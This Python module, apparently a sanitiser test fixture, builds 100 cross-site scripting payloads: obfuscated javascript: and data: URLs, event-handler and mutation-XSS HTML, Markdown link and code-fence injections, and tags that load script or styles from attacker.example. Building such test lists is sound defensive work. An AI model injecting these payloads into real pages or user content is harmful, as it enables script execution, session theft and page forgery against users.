"""A hundred texts that would run a script, load something or forge the page, if they were HTML."""

from __future__ import annotations

_RUN = "globalThis.attacked=1"
_URLS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "\x01javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg onload={run}>",
    "vbscript:{run}",
    "blob:null/{run}",
    "//attacker.example/{run}",
    "/ui/chat?{run}",
)
_OF_URLS = (
    "[link]({url})",
    "[link](<{url}>)",
    "![image]({url})",
    "<{url}>",
    '<a href="{url}">link</a>',
)
_HTML = (
    "<script>{run}</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<base href=//attacker.example/>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import '//attacker.example/x.css';</style>",
    "<div style='background:url(//attacker.example/x)'>x</div>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[><script>{run}</script>]]>",
    "</div></main><script>{run}</script>",
    "<p id=box>forged</p>",
    "<x-y onclick={run}>x</x-y>",
)
_MARKDOWN = (
    '```"><script>{run}</script>\nx\n```',
    '```js" onmouseover="{run}\nx\n```',
    "```html\n<script>{run}</script>\n```",
    "    <script>{run}</script>",
    "`<img src=x onerror={run}>`",
    '[x](http://a.example/"onmouseover="{run})',
    "[x](http://a.example '\"onmouseover={run}')",
    '![x" onerror="{run}](http://a.example/x.png)',
    "[x]: javascript:{run}\n\n[x]",
    "|<img src=x onerror={run}>|\n|:-|\n|<svg onload={run}>|",
    "# <img src=x onerror={run}>",
    "- <img src=x onerror={run}>\n- <svg onload={run}>",
    "> <script>{run}</script>",
    "**<script>{run}</script>**",
)
_URL_PAYLOADS = [form.format(url=url) for url in _URLS for form in _OF_URLS]
PAYLOADS = [text.replace("{run}", _RUN) for text in (*_URL_PAYLOADS, *_HTML, *_MARKDOWN)]
assert len(PAYLOADS) == 100
